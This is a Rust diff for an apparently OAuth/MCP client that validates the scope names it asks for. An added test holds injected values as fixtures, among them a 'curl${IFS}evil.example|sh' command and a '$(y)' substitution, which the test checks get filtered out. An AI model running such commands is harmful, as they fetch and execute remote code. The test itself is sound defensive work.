@@ -13,7 +13,7 @@ use serde_json::{Value, json};
 use tokio::time::timeout;
 use url::Url;
 
-use crate::{challenge::Challenges, fault::Fault, possession::Offers, target::McpUrl, web::Web};
+use crate::{challenge::Challenges, fault::Fault, possession::Offers, scope, target::McpUrl, web::Web};
 
 /// For all of it: other bridges of this person wait meanwhile.
 const DISCOVERY_WAIT_MAX: Duration = Duration::from_secs(60);
@@ -117,12 +117,11 @@ async fn resource(web: &Web, url: &McpUrl) -> Result<Resource, Fault> {
         let document = web.get(&place).await?;
         if document.status == StatusCode::OK && document.body.is_object() {
             let metadata = document.body;
-            let scope = said.get("scope").filter(|scope| is_short(scope)).map(str::to_owned);
             let takes_envelopes = has_word(&metadata, "bailiwick_binding_algs_supported", BINDING_ALG);
             let wants_keys = metadata.get("dpop_bound_access_tokens_required") == Some(&Value::Bool(true));
             return Ok(Resource {
                 is_root: named.is_none() && place.path() == WELL_KNOWN,
-                scope: scope.or_else(|| words(&metadata, "scopes_supported")),
+                scope: scope_to_ask_for(&said, &metadata),
                 must_be_dpop: said.asks_for_dpop_alone() || (wants_keys && !takes_envelopes),
                 metadata,
             });
@@ -211,10 +210,16 @@ fn has_word(value: &Value, name: &str, word: &str) -> bool {
     value.get(name).and_then(Value::as_array).is_some_and(|words| words.iter().any(|known| known == word))
 }
 
-/// A list of words, with spaces between them.
-fn words(value: &Value, name: &str) -> Option<String> {
-    let words: Vec<&str> = value.get(name)?.as_array()?.iter().filter_map(Value::as_str).collect();
-    Some(words.join(" ")).filter(|words| !words.is_empty() && is_short(words))
+/// As the resource says it with its refusal, else in its metadata.
+fn scope_to_ask_for(said: &Challenges, metadata: &Value) -> Option<String> {
+    let scope = match said.get("scope").filter(|scope| is_short(scope)) {
+        Some(scope) => scope::of_names(scope),
+        None => {
+            let all = metadata.get("scopes_supported")?.as_array()?.iter().filter_map(Value::as_str);
+            all.filter(|word| scope::is_name(word)).collect::<Vec<_>>().join(" ")
+        }
+    };
+    Some(scope).filter(|scope| !scope.is_empty() && is_short(scope))
 }
 
 fn allowed(from: &McpUrl, text: &str) -> Option<Url> {
@@ -278,6 +283,18 @@ mod tests {
         let authority = read(&found).unwrap();
         assert_eq!(authority.offers, Offers { envelope: true, dpop: true, must_be_dpop: false });
         assert_eq!(authority.scope.as_deref(), Some("a b offline_access"));
+    }
+
+    #[test]
+    fn what_is_no_name_of_a_scope_is_not_asked_for() {
+        let metadata = json!({"scopes_supported": ["a", "'!';curl${IFS}evil.example|sh;'", "b c", 1, "d"]});
+        let asked = |challenge: &'static str| {
+            let headers = [(header::WWW_AUTHENTICATE, HeaderValue::from_static(challenge))];
+            scope_to_ask_for(&Challenges::of(&headers.into_iter().collect()), &metadata)
+        };
+        assert_eq!(asked("Bearer").as_deref(), Some("a d"));
+        assert_eq!(asked(r#"Bearer scope="x $(y) z""#).as_deref(), Some("x z"));
+        assert_eq!(asked(r#"Bearer scope="'x'""#), None, "nor more than it says");
     }
 
     #[test]
